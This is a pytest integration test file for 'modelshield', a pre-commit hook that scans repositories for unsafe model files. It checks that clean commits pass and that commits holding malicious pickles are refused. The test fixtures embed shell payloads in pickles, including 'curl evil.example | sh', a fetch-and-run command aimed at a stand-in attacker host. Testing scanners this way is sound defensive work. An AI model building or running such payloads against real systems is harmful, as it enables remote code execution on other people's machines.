"""The pre-commit hook, run by the real `pre-commit` tool in temporary git repositories: pre-commit
installs modelshield from a copy of this source into its own environment (offline, from a wheelhouse
repacked from this test environment), exactly as it would from GitHub."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from safetensors.numpy import save_file

from tests.helpers import evil_pickle
from tests.integrations.wheelhouse import git


@pytest.fixture(scope="session")
def hook_env(
    tmp_path_factory: pytest.TempPathFactory, source_repo: Path, offline_env: dict[str, str]
) -> tuple[Path, dict[str, str]]:
    """The hook repository and an environment in which pre-commit installs it offline, once a session."""
    return source_repo, {**offline_env, "PRE_COMMIT_HOME": str(tmp_path_factory.mktemp("pre-commit-home"))}


def pre_commit(cwd: Path, env: dict[str, str], *argv: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "pre_commit", *argv],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )


def project(path: Path) -> Path:
    path.mkdir()
    git(path, "init", "-q")
    (path / "README.md").write_text("# a project with models\n")
    save_file({"w": np.zeros((2, 2), dtype=np.float32)}, str(path / "model.safetensors"))
    git(path, "add", "-A")
    return path


def test_try_repo_passes_a_clean_commit_and_refuses_an_unsafe_model(
    tmp_path: Path, hook_env: tuple[Path, dict[str, str]]
) -> None:
    hook_repo, env = hook_env
    repo = project(tmp_path / "project")
    clean = pre_commit(repo, env, "try-repo", str(hook_repo), "modelshield")
    assert clean.returncode == 0, clean.stdout + clean.stderr
    assert "modelshield (scan model files)" in clean.stdout and "Passed" in clean.stdout
    (repo / "notes.txt").write_bytes(evil_pickle("echo pwned"))  # a pickle, whatever its name says
    git(repo, "add", "notes.txt")
    refused = pre_commit(repo, env, "try-repo", str(hook_repo), "modelshield")
    assert refused.returncode == 1
    assert "Failed" in refused.stdout and "PKL001" in refused.stdout and "notes.txt" in refused.stdout


def test_installed_hook_refuses_the_commit(tmp_path: Path, hook_env: tuple[Path, dict[str, str]]) -> None:
    hook_repo, env = hook_env
    rev = subprocess.run(["git", "rev-parse", "HEAD"], cwd=hook_repo, capture_output=True, text=True, check=True)
    repo = project(tmp_path / "project")
    (repo / ".pre-commit-config.yaml").write_text(
        f"repos:\n- repo: {hook_repo}\n  rev: {rev.stdout.strip()}\n  hooks:\n  - id: modelshield\n"
        "    args: [--fail-on, high]\n"
    )
    git(repo, "add", "-A")
    assert pre_commit(repo, env, "install").returncode == 0
    commit = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid", "commit", "-q", "-m"]
    first = subprocess.run([*commit, "clean"], cwd=repo, env=env, capture_output=True, text=True, check=False)
    assert first.returncode == 0, first.stdout + first.stderr
    (repo / "checkpoint.pt").write_bytes(evil_pickle("curl evil.example | sh"))
    git(repo, "add", "checkpoint.pt")
    second = subprocess.run(
        [*commit, "add a checkpoint"], cwd=repo, env=env, capture_output=True, text=True, check=False
    )
    assert second.returncode != 0
    assert "PKL001" in second.stdout + second.stderr
    log = subprocess.run(["git", "log", "--oneline"], cwd=repo, capture_output=True, text=True, check=True)
    assert len(log.stdout.splitlines()) == 1
